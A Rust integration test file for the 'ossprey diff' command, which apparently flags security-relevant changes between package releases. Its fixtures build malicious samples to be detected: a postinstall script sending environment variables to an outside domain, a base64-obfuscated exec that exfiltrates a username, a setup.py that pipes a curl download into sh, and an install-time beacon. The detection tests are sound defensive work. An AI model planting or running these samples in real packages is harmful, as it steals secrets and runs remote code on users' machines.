//! `ossprey diff A B` end to end, on pairs of archives the tests build and on registry
//! versions served by a fake registry on loopback.

mod common;

use std::path::{Path, PathBuf};
use std::process::{Command, Output};

use ossprey_testkit::archives::{gzip, sha256_hex, tar_bytes, tar_gz};
use ossprey_testkit::{FakeServer, Reply};
use serde_json::{Value, json};

/// Runs `ossprey diff ARGS` with every registry pointed at `registry` (a closed
/// loopback port unless a test serves one).
fn diff_with(args: &[&str], cache: &Path, registry: &str) -> Output {
    Command::new(env!("CARGO_BIN_EXE_ossprey"))
        .arg("diff")
        .args(args)
        .env("OSSPREY_CACHE_DIR", cache)
        .env("OSSPREY_PYPI_URL", registry)
        .env("OSSPREY_NPM_URL", registry)
        .env("OSSPREY_CRATES_INDEX_URL", registry)
        .env("OSSPREY_RUBYGEMS_URL", registry)
        .env_remove("OSSPREY_CONFIG")
        .output()
        .expect("run ossprey")
}

fn diff(args: &[&str], cache: &Path) -> Output {
    diff_with(args, cache, "http://127.0.0.1:9")
}

fn json_of(out: &Output) -> Value {
    serde_json::from_slice(&out.stdout).unwrap_or_else(|e| {
        panic!(
            "stdout is not JSON ({e}):\n{}\nstderr:\n{}",
            String::from_utf8_lossy(&out.stdout),
            String::from_utf8_lossy(&out.stderr)
        )
    })
}

fn stdout(out: &Output) -> String {
    String::from_utf8_lossy(&out.stdout).into_owned()
}

struct Dir(tempfile::TempDir);

impl Dir {
    fn new() -> Self {
        Self(tempfile::tempdir().unwrap())
    }
    fn cache(&self) -> PathBuf {
        self.0.path().join("cache")
    }
    /// Writes a `.tgz`/`.tar.gz` archive of `files` and returns its path as a string.
    fn archive(&self, name: &str, files: &[(&str, &[u8])]) -> String {
        let path = self.0.path().join(name);
        std::fs::write(&path, tar_gz(files)).unwrap();
        path.display().to_string()
    }
}

fn package_json(version: &str, extra: &str) -> Vec<u8> {
    format!(r#"{{"name":"colorize-lite","version":"{version}","main":"index.js"{extra}}}"#)
        .into_bytes()
}

const INDEX_1: &[u8] = b"const { execSync } = require('child_process');\n\
function rev() { return execSync('git rev-parse HEAD').toString(); }\n\
module.exports = { red: (s) => '\\x1b[31m' + s, rev };\n";

/// The same code with a new function above the `execSync` call: the call moved. The
/// link in the new comment is no destination the code can use.
const INDEX_2: &[u8] = b"const { execSync } = require('child_process');\n\
// Colours as in https://colour-codes.colorize-docs.dev/ansi\n\
function green(s) { return '\\x1b[32m' + s; }\n\
\n\
function rev() { return execSync('git rev-parse HEAD').toString(); }\n\
module.exports = { red: (s) => '\\x1b[31m' + s, green, rev };\n";

fn strings(v: &Value, field: &str) -> Vec<String> {
    v.as_array()
        .unwrap_or_else(|| panic!("not an array: {v}"))
        .iter()
        .map(|x| x[field].as_str().unwrap_or_default().to_owned())
        .collect()
}

#[test]
fn a_benign_version_bump_exits_0_and_lists_nothing_relevant() {
    let d = Dir::new();
    let a = d.archive(
        "colorize-lite-1.0.0.tgz",
        &[
            ("package/package.json", &package_json("1.0.0", "")),
            ("package/index.js", INDEX_1),
            ("package/README.md", b"# colorize-lite\n"),
        ],
    );
    let b = d.archive(
        "colorize-lite-1.1.0.tgz",
        &[
            (
                "package/package.json",
                &package_json("1.1.0", r#","dependencies":{"ansi-styles":"^6.2.1"}"#),
            ),
            ("package/index.js", INDEX_2),
            // A new link in the docs is not a destination of the code.
            (
                "package/README.md",
                b"# colorize-lite\n![ci](https://img.shields.io/badge/ci-green)\n",
            ),
            // Nor is a mock server of a test nobody installs or imports.
            (
                "package/test/index.test.js",
                b"const { execSync } = require('child_process');\n\
execSync('npx mock-server --port 4010');\n\
fetch('https://mock.colorize-ci.dev/v1/colors');\n",
            ),
        ],
    );
    let out = diff(&[&a, &b, "--format", "json"], &d.cache());
    let v = json_of(&out);
    assert_eq!(
        out.status.code(),
        Some(0),
        "{v:#}\n{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert_eq!(v["security_relevant"], false);
    assert_eq!(v["reasons"], json!([]));
    assert_eq!(v["a"]["package"]["version"], "1.0.0");
    assert_eq!(v["b"]["package"]["version"], "1.1.0");
    // The execSync call of index.js moved three lines down: the same command, not a
    // new one (the only new command is the test's).
    assert_eq!(v["commands"]["added"].as_array().unwrap().len(), 1, "{v:#}");
    assert_eq!(v["commands"]["removed"], json!([]));
    // Listed, not relevant: the test's host and command, the comment's host.
    let dests = &v["destinations"]["added"];
    let listed = strings(dests, "value");
    assert!(
        listed.contains(&"mock.colorize-ci.dev".to_owned())
            && listed.contains(&"colour-codes.colorize-docs.dev".to_owned()),
        "{dests:#}"
    );
    assert!(
        dests
            .as_array()
            .unwrap()
            .iter()
            .all(|d| d["relevant"] == false),
        "{dests:#}"
    );
    let commands = &v["commands"]["added"];
    assert_eq!(
        commands[0]["command"], "npx mock-server --port 4010",
        "{v:#}"
    );
    assert_eq!(commands[0]["file"], "test/index.test.js");
    assert_eq!(commands[0]["relevant"], false);
    assert_eq!(v["install_hooks"]["added"], json!([]));
    // The new registry dependency is listed, and not relevant.
    assert_eq!(v["dependencies"]["added"][0]["name"], "ansi-styles");
    assert_eq!(v["dependencies"]["added"][0]["relevant"], false);
    assert_eq!(v["files"]["changed"], 3);
    assert_eq!(v["files"]["added"], 1);
    assert_eq!(v["files"]["code"]["changed"], json!(["index.js"]));

    let text = diff(&[&a, &b], &d.cache());
    assert_eq!(text.status.code(), Some(0));
    let t = stdout(&text);
    assert!(t.contains("Nothing security-relevant was added."), "{t}");
    assert!(t.contains("+ ansi-styles (runtime) ^6.2.1"), "{t}");
}

#[test]
fn a_release_that_adds_a_postinstall_phoning_home_exits_1_with_hook_destination_and_finding() {
    let d = Dir::new();
    let a = d.archive(
        "colorize-lite-1.0.0.tgz",
        &[
            ("package/package.json", &package_json("1.0.0", "")),
            ("package/index.js", INDEX_1),
        ],
    );
    let b = d.archive(
        "colorize-lite-1.0.1.tgz",
        &[
            (
                "package/package.json",
                &package_json("1.0.1", r#","scripts":{"postinstall":"node collect.js"}"#),
            ),
            ("package/index.js", INDEX_1),
            (
                "package/collect.js",
                b"const https = require('https');\nconst os = require('os');\n\
const data = JSON.stringify({ h: os.hostname(), env: process.env });\n\
const req = https.request('https://telemetry.colorz-cdn.xyz/c', { method: 'POST' });\n\
req.write(data);\nreq.end();\n",
            ),
        ],
    );
    let out = diff(&[&a, &b, "--format", "json"], &d.cache());
    let v = json_of(&out);
    assert_eq!(out.status.code(), Some(1), "{v:#}");
    assert_eq!(v["security_relevant"], true);

    let hooks = &v["install_hooks"]["added"];
    assert_eq!(hooks[0]["trigger"], "npm-postinstall", "{v:#}");
    assert_eq!(
        hooks[0]["path"], "package.json",
        "the package root is stripped"
    );
    assert_eq!(hooks[0]["command"], "node collect.js");

    let dests = &v["destinations"]["added"];
    let domain = dests
        .as_array()
        .unwrap()
        .iter()
        .find(|d| d["kind"] == "domain" && d["value"] == "telemetry.colorz-cdn.xyz")
        .unwrap_or_else(|| panic!("no new domain in {dests:#}"));
    assert_eq!(domain["relevant"], true);
    assert_eq!(domain["file"], "collect.js");
    assert_eq!(domain["line"], 4);

    let findings = v["findings"]["added"].as_array().unwrap();
    assert!(
        findings.iter().any(|f| f["severity"] == "high"
            || f["severity"] == "critical"
            || f["severity"] == "medium"),
        "a new finding at medium or above: {findings:#?}"
    );
    assert!(
        findings.iter().any(|f| f["category"] == "install-hook"),
        "{findings:#?}"
    );
    let reasons = strings_of(&v["reasons"]);
    assert!(
        reasons
            .iter()
            .any(|r| r.starts_with("install hook added: npm-postinstall")),
        "{reasons:?}"
    );
    assert!(
        reasons
            .iter()
            .any(|r| r.contains("domain telemetry.colorz-cdn.xyz")),
        "{reasons:?}"
    );

    let text = diff(&[&a, &b], &d.cache());
    assert_eq!(text.status.code(), Some(1));
    let t = stdout(&text);
    assert!(t.contains("SECURITY-RELEVANT"), "{t}");
    assert!(
        t.contains("+ npm-postinstall in package.json: node collect.js"),
        "{t}"
    );
    assert!(
        t.contains("+ domain telemetry.colorz-cdn.xyz (collect.js:4)"),
        "{t}"
    );
    // Relevant first: the summary comes before the sections.
    assert!(t.find("SECURITY-RELEVANT") < t.find("Install hooks"), "{t}");

    // And the other way round, the hook is only removed: nothing relevant added.
    let back = diff(&[&b, &a, "--format", "json"], &d.cache());
    let w = json_of(&back);
    assert_eq!(back.status.code(), Some(0), "{w:#}");
    assert_eq!(
        w["install_hooks"]["removed"][0]["trigger"],
        "npm-postinstall"
    );
}

fn strings_of(v: &Value) -> Vec<String> {
    v.as_array()
        .unwrap()
        .iter()
        .map(|s| s.as_str().unwrap().to_owned())
        .collect()
}

fn sdist_files(version: &str, init: &[u8]) -> Vec<(String, Vec<u8>)> {
    let root = format!("fastjsonx-{version}");
    vec![
        (
            format!("{root}/PKG-INFO"),
            format!("Metadata-Version: 2.1\nName: fastjsonx\nVersion: {version}\n").into_bytes(),
        ),
        (
            format!("{root}/pyproject.toml"),
            b"[build-system]\nrequires = [\"setuptools\"]\nbuild-backend = \"setuptools.build_meta\"\n"
                .to_vec(),
        ),
        (format!("{root}/fastjsonx/__init__.py"), init.to_vec()),
        (
            format!("{root}/fastjsonx/core.py"),
            b"import json\n\ndef dumps(x):\n    return json.dumps(x)\n".to_vec(),
        ),
    ]
}

fn write_sdist(d: &Dir, version: &str, init: &[u8]) -> String {
    let files = sdist_files(version, init);
    let refs: Vec<(&str, &[u8])> = files
        .iter()
        .map(|(p, b)| (p.as_str(), b.as_slice()))
        .collect();
    d.archive(&format!("fastjsonx-{version}.tar.gz"), &refs)
}

#[test]
fn a_pypi_release_adding_an_obfuscated_exec_in_init_is_an_obfuscated_file() {
    let d = Dir::new();
    let a = write_sdist(&d, "2.0.0", b"from .core import dumps\n");
    let payload = "aW1wb3J0IG9zLCB1cmxsaWIucmVxdWVzdAp1cmxsaWIucmVxdWVzdC51cmxvcGVuKCdodHRwOi8vMTAuMC4wLjE6ODAvJyArIG9zLmdldGVudignVVNFUicsICcnKSkK";
    let init =
        format!("from .core import dumps\nimport base64\nexec(base64.b64decode(\"{payload}\"))\n");
    let b = write_sdist(&d, "2.0.1", init.as_bytes());
    let out = diff(&[&a, &b, "--format", "json"], &d.cache());
    let v = json_of(&out);
    assert_eq!(out.status.code(), Some(1), "{v:#}");
    let obf = &v["obfuscated_files"]["added"];
    assert_eq!(obf[0]["path"], "fastjsonx/__init__.py", "{v:#}");
    let reasons = strings_of(&obf[0]["reasons"]);
    assert!(
        reasons.contains(&"decode-then-eval".to_owned()),
        "{reasons:?}"
    );
    // Only the changed file is listed as changed code: the sdist roots differ
    // (`fastjsonx-2.0.0/` and `fastjsonx-2.0.1/`) yet core.py is the same file.
    assert_eq!(
        v["files"]["code"]["changed"],
        json!(["fastjsonx/__init__.py"])
    );
    assert_eq!(v["files"]["added"], 0);
    assert_eq!(v["files"]["removed"], 0);
    assert!(
        v["findings"]["added"]
            .as_array()
            .unwrap()
            .iter()
            .any(|f| f["evidence"]["file"] == "fastjsonx/__init__.py"),
        "{v:#}"
    );
    let t = stdout(&diff(&[&a, &b], &d.cache()));
    assert!(
        t.contains("Obfuscated files\n  + fastjsonx/__init__.py ("),
        "{t}"
    );
}

/// urllib3 2.2.1 → 2.2.2 added an RFC link to a docstring and `ossprey diff` called it
/// a new network destination. A docstring is listed, not counted; the same host as a
/// real argument still is.
#[test]
fn a_url_only_in_a_python_docstring_is_listed_but_not_relevant() {
    let d = Dir::new();
    let a = write_sdist(&d, "2.1.0", b"from .core import dumps\n");
    let documented = b"\"\"\"fastjsonx: JSON per https://www.rfc-editor.org/rfc/rfc8259.\"\"\"\n\
from .core import dumps\n\n\
def loads(s):\n    \"\"\"\n    Decodes `RFC 8259 <https://www.rfc-editor.org/rfc/rfc8259#section-8.1>`_.\n    \"\"\"\n    return s\n";
    let b = write_sdist(&d, "2.1.1", documented);
    let out = diff(&[&a, &b, "--format", "json"], &d.cache());
    let v = json_of(&out);
    assert_eq!(out.status.code(), Some(0), "{v:#}");
    let dests = &v["destinations"]["added"];
    assert!(
        strings(dests, "value").contains(&"www.rfc-editor.org".to_owned()),
        "{dests:#}"
    );
    assert!(
        dests
            .as_array()
            .unwrap()
            .iter()
            .all(|d| d["relevant"] == false),
        "{dests:#}"
    );

    let used = b"\"\"\"fastjsonx.\"\"\"\nimport urllib.request\nfrom .core import dumps\n\n\
def schema():\n    return urllib.request.urlopen(\"https://www.rfc-editor.org/rfc/rfc8259.txt\")\n";
    let c = write_sdist(&d, "2.1.2", used);
    let out = diff(&[&a, &c, "--format", "json"], &d.cache());
    let v = json_of(&out);
    assert_eq!(out.status.code(), Some(1), "{v:#}");
    assert!(
        v["destinations"]["added"]
            .as_array()
            .unwrap()
            .iter()
            .any(|d| d["value"] == "www.rfc-editor.org" && d["relevant"] == true),
        "{v:#}"
    );
}

#[test]
fn a_dependency_added_from_a_git_url_is_relevant() {
    let d = Dir::new();
    let a = d.archive(
        "colorize-lite-1.0.0.tgz",
        &[
            (
                "package/package.json",
                &package_json("1.0.0", r#","dependencies":{"ansi-styles":"^6.2.1"}"#),
            ),
            ("package/index.js", INDEX_1),
        ],
    );
    let b = d.archive(
        "colorize-lite-1.0.1.tgz",
        &[
            (
                "package/package.json",
                &package_json(
                    "1.0.1",
                    r#","dependencies":{"ansi-styles":"^6.2.1","color-helper":"git+https://github.com/c0lor-helper/color-helper.git"}"#,
                ),
            ),
            ("package/index.js", INDEX_1),
        ],
    );
    let out = diff(&[&a, &b, "--format", "json"], &d.cache());
    let v = json_of(&out);
    assert_eq!(out.status.code(), Some(1), "{v:#}");
    let added = &v["dependencies"]["added"];
    assert_eq!(added.as_array().unwrap().len(), 1, "{v:#}");
    assert_eq!(added[0]["name"], "color-helper");
    assert_eq!(
        added[0]["url"],
        "git+https://github.com/c0lor-helper/color-helper.git"
    );
    assert_eq!(added[0]["relevant"], true);
    assert_eq!(v["dependencies"]["changed"], json!([]));
    assert!(
        strings_of(&v["reasons"])
            .iter()
            .any(|r| r.starts_with("dependency added from outside the registry: color-helper")),
        "{v:#}"
    );
}

#[test]
fn identical_inputs_have_no_differences() {
    let d = Dir::new();
    let a = write_sdist(
        &d,
        "2.0.0",
        b"import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n",
    );
    // The same bytes under another name: an identical artifact.
    let b = d.0.path().join("copy.tar.gz");
    std::fs::copy(&a, &b).unwrap();
    let b = b.display().to_string();
    let out = diff(&[&a, &b, "--format", "json"], &d.cache());
    let v = json_of(&out);
    assert_eq!(out.status.code(), Some(0), "{v:#}");
    assert_eq!(v["a"]["sha256"], v["b"]["sha256"]);
    for section in [
        "install_hooks",
        "destinations",
        "commands",
        "obfuscated_files",
        "findings",
        "dependencies",
        "file_writes",
    ] {
        assert_eq!(v[section]["added"], json!([]), "{section}: {v:#}");
        assert_eq!(v[section]["removed"], json!([]), "{section}: {v:#}");
    }
    assert_eq!(v["files"]["unchanged"], 4);
    assert_eq!(v["files"]["changed"], 0);
    assert_eq!(v["verdict"]["worse"], false);
    let t = stdout(&diff(&[&a, &b], &d.cache()));
    assert!(t.contains("No change in install hooks"), "{t}");
}

#[test]
fn an_unreadable_target_exits_2_and_names_it() {
    let d = Dir::new();
    let a = write_sdist(&d, "2.0.0", b"x = 1\n");
    let missing = d.0.path().join("nope-1.0.tar.gz").display().to_string();
    let out = diff(&[&a, &missing], &d.cache());
    assert_eq!(out.status.code(), Some(2));
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(
        err.contains("nope-1.0.tar.gz") && err.contains("not-found"),
        "{err}"
    );
    assert!(
        out.stdout.is_empty(),
        "no diff is printed: {}",
        stdout(&out)
    );

    // A file that is not an archive at all.
    let junk = d.0.path().join("junk.tar.gz");
    std::fs::write(&junk, b"this is not gzip").unwrap();
    let junk = junk.display().to_string();
    let out = diff(&[&junk, &a, "--format", "json"], &d.cache());
    assert_eq!(out.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&out.stderr).contains("junk.tar.gz"));
}

/// Serves `demo` 1.0 and 1.1 from a fake PyPI (project JSON API).
fn serve_two_pypi_versions(server: &FakeServer, v10: &[u8], v11: &[u8]) {
    let file = |v: &str, bytes: &[u8]| {
        json!([{
            "filename": format!("demo-{v}.tar.gz"),
            "url": format!("{}/files/demo-{v}.tar.gz", server.base),
            "packagetype": "sdist",
            "digests": {"sha256": sha256_hex(bytes)},
            "yanked": false
        }])
    };
    server.route(
        "/pypi/demo/json",
        vec![Reply::json(&json!({
            "info": {"name": "demo", "version": "1.1"},
            "releases": {"1.0": file("1.0", v10), "1.1": file("1.1", v11)}
        }))],
    );
    server.route("/files/demo-1.0.tar.gz", vec![Reply::ok(v10.to_vec())]);
    server.route("/files/demo-1.1.tar.gz", vec![Reply::ok(v11.to_vec())]);
}

fn demo_sdist(version: &str, setup: &str) -> Vec<u8> {
    let pkg_info = format!("Metadata-Version: 2.1\nName: demo\nVersion: {version}\n");
    gzip(&tar_bytes(&[
        (&format!("demo-{version}/PKG-INFO"), pkg_info.as_bytes()),
        (&format!("demo-{version}/setup.py"), setup.as_bytes()),
        (
            &format!("demo-{version}/demo/__init__.py"),
            b"def f():\n    return 1\n",
        ),
    ]))
}

#[test]
fn registry_versions_are_fetched_and_diffed() {
    let server = FakeServer::start();
    let cache = tempfile::tempdir().unwrap();
    let v10 = demo_sdist("1.0", "from setuptools import setup\nsetup(name='demo')\n");
    let v11 = demo_sdist(
        "1.1",
        "import os\nfrom setuptools import setup\n\
         os.system('curl -s http://45.61.139.12/x.sh | sh')\nsetup(name='demo')\n",
    );
    serve_two_pypi_versions(&server, &v10, &v11);
    let out = diff_with(
        &["pypi:demo@1.0", "pypi:demo@1.1", "--format", "json"],
        cache.path(),
        &server.base,
    );
    let v = json_of(&out);
    assert_eq!(
        out.status.code(),
        Some(1),
        "{v:#}\n{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert_eq!(
        v["a"]["package"],
        json!({"ecosystem": "pypi", "name": "demo", "version": "1.0"})
    );
    assert_eq!(v["b"]["package"]["version"], "1.1");
    assert_eq!(v["a"]["target"], "pypi:demo@1.0");
    assert_eq!(v["b"]["sha256"], sha256_hex(&v11).as_str());
    let commands = &v["commands"]["added"];
    assert_eq!(commands[0]["source"], "code", "{v:#}");
    assert_eq!(commands[0]["callee"], "os.system");
    assert_eq!(
        commands[0]["command"],
        "curl -s http://45.61.139.12/x.sh | sh"
    );
    assert_eq!(commands[0]["file"], "setup.py");
    assert!(
        strings(&v["destinations"]["added"], "value").contains(&"45.61.139.12".to_owned()),
        "{v:#}"
    );
    // setup.py is the same hook in both releases (only its code changed).
    assert_eq!(v["install_hooks"]["added"], json!([]), "{v:#}");
    assert_eq!(v["files"]["code"]["changed"], json!(["setup.py"]));
    assert_eq!(server.hits("/files/demo-1.0.tar.gz"), 1);
    assert_eq!(server.hits("/files/demo-1.1.tar.gz"), 1);
}

#[test]
fn a_missing_registry_version_exits_2() {
    let server = FakeServer::start();
    let cache = tempfile::tempdir().unwrap();
    let v10 = demo_sdist("1.0", "from setuptools import setup\nsetup(name='demo')\n");
    serve_two_pypi_versions(&server, &v10, &v10);
    let out = diff_with(
        &["pypi:demo@1.0", "pypi:demo@9.9"],
        cache.path(),
        &server.base,
    );
    assert_eq!(out.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&out.stderr).contains("pypi:demo@9.9"));
}

#[test]
fn help_documents_what_is_security_relevant() {
    let out = Command::new(env!("CARGO_BIN_EXE_ossprey"))
        .args(["diff", "--help"])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(0));
    let help = stdout(&out);
    assert!(help.contains("Security-relevant (exit status 1)"), "{help}");
    assert!(help.contains("severity medium or above"), "{help}");
    // docs/diff.md states the same rules.
    let doc = std::fs::read_to_string(concat!(env!("CARGO_MANIFEST_DIR"), "/../../docs/diff.md"))
        .expect("docs/diff.md");
    for term in ["security-relevant", "`added`", "`removed`", "exit status"] {
        assert!(
            doc.to_lowercase().contains(&term.to_lowercase()),
            "docs/diff.md lacks {term}"
        );
    }
}

/// With `--analyze`, both sides run in the sandbox and what they did is compared.
#[test]
fn analyze_compares_what_the_sandbox_saw() {
    let Some(runtime) = common::runtime_dir_or_skip("analyze_compares_what_the_sandbox_saw") else {
        return;
    };
    let d = Dir::new();
    let a = d.archive(
        "colorize-lite-1.0.0.tgz",
        &[
            ("package/package.json", &package_json("1.0.0", "")),
            ("package/index.js", b"module.exports = 1;\n"),
        ],
    );
    // The new release resolves a name and connects to it while installing (the
    // sandbox's sinkhole answers; nothing leaves the namespace).
    let b = d.archive(
        "colorize-lite-1.0.1.tgz",
        &[
            (
                "package/package.json",
                &package_json("1.0.1", r#","scripts":{"postinstall":"node ping.js"}"#),
            ),
            ("package/index.js", b"module.exports = 1;\n"),
            (
                "package/ping.js",
                b"const net = require('net');\n\
const s = net.connect(8443, 'beacon.colorz-cdn.xyz', () => { s.end('hi'); });\n\
s.on('error', () => {});\n",
            ),
        ],
    );
    let out = Command::new(env!("CARGO_BIN_EXE_ossprey"))
        .args([
            "diff",
            &a,
            &b,
            "--analyze",
            "--format",
            "json",
            "--timeout",
            "30",
        ])
        .args(["--phases", "install"])
        .env("OSSPREY_CACHE_DIR", d.cache())
        .env("OSSPREY_RUNTIME_DIR", &runtime)
        .env("OSSPREY_NPM_URL", "http://127.0.0.1:9")
        .env("OSSPREY_PYPI_URL", "http://127.0.0.1:9")
        .output()
        .unwrap();
    let v = json_of(&out);
    assert_eq!(out.status.code(), Some(1), "{v:#}");
    assert_eq!(v["analyzed"], true);
    let dests = &v["destinations"]["added"];
    let pairs: Vec<(String, String)> = dests
        .as_array()
        .unwrap()
        .iter()
        .map(|d| {
            (
                d["kind"].as_str().unwrap_or_default().to_owned(),
                d["value"].as_str().unwrap_or_default().to_owned(),
            )
        })
        .collect();
    assert!(
        pairs.contains(&("dns".into(), "beacon.colorz-cdn.xyz".into())),
        "{pairs:?}"
    );
    assert!(
        pairs.contains(&("connection".into(), "beacon.colorz-cdn.xyz:8443".into())),
        "{pairs:?}"
    );
    // The hook's `node ping.js` ran: an executed command only B has.
    let execs: Vec<String> = v["commands"]["added"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|c| c["source"] == "exec")
        .map(|c| c["command"].as_str().unwrap_or_default().to_owned())
        .collect();
    assert!(
        execs.iter().any(|c| c.contains("ping.js")),
        "{execs:?}\n{v:#}"
    );
}

/// Two benign releases run in the sandbox differ only in what is random per run
/// (pip's temporary directories, the random home, log time stamps, the archive's
/// name): none of it may read as a new command or destination.
#[test]
fn analyze_of_a_benign_pypi_bump_finds_nothing_relevant() {
    let Some(runtime) =
        common::runtime_dir_or_skip("analyze_of_a_benign_pypi_bump_finds_nothing_relevant")
    else {
        return;
    };
    let d = Dir::new();
    let setup = |v: &str| {
        format!(
            "from setuptools import setup\nsetup(name='demo', version='{v}', packages=['demo'])\n"
        )
    };
    let sdist = |v: &str| {
        let pkg_info = format!("Metadata-Version: 2.1\nName: demo\nVersion: {v}\n");
        let setup = setup(v);
        d.archive(
            &format!("demo-{v}.tar.gz"),
            &[
                (&format!("demo-{v}/PKG-INFO"), pkg_info.as_bytes()),
                (&format!("demo-{v}/setup.py"), setup.as_bytes()),
                (
                    &format!("demo-{v}/demo/__init__.py"),
                    b"def f():\n    return 1\n",
                ),
            ],
        )
    };
    let (a, b) = (sdist("1.0"), sdist("1.1"));
    let out = Command::new(env!("CARGO_BIN_EXE_ossprey"))
        .args([
            "diff",
            &a,
            &b,
            "--analyze",
            "--format",
            "json",
            "--timeout",
            "60",
        ])
        .env("OSSPREY_CACHE_DIR", d.cache())
        .env("OSSPREY_RUNTIME_DIR", &runtime)
        .env("OSSPREY_PYPI_URL", "http://127.0.0.1:9")
        .env("OSSPREY_NPM_URL", "http://127.0.0.1:9")
        .output()
        .unwrap();
    let v = json_of(&out);
    assert_eq!(out.status.code(), Some(0), "{v:#}");
    assert_eq!(v["analyzed"], true);
    assert_eq!(v["commands"]["added"], json!([]), "{v:#}");
    assert_eq!(v["commands"]["removed"], json!([]), "{v:#}");
    assert_eq!(v["file_writes"]["added"], json!([]), "{v:#}");
}

/// A real pair of releases from the live registry (opt-in: `OSSPREY_LIVE=1`).
#[test]
fn live_pypi_versions_diff() {
    if std::env::var("OSSPREY_LIVE").as_deref() != Ok("1") {
        eprintln!("SKIP live_pypi_versions_diff: set OSSPREY_LIVE=1 to reach pypi.org");
        return;
    }
    let cache = tempfile::tempdir().unwrap();
    let out = Command::new(env!("CARGO_BIN_EXE_ossprey"))
        .args([
            "diff",
            "pypi:six@1.16.0",
            "pypi:six@1.17.0",
            "--format",
            "json",
        ])
        .env("OSSPREY_CACHE_DIR", cache.path())
        .env_remove("OSSPREY_PYPI_URL")
        .output()
        .unwrap();
    let v = json_of(&out);
    assert!(matches!(out.status.code(), Some(0 | 1)), "{v:#}");
    assert_eq!(v["a"]["package"]["name"], "six");
    assert_eq!(v["b"]["package"]["version"], "1.17.0");
    assert!(v["files"]["changed"].as_u64().unwrap_or(0) > 0);
}
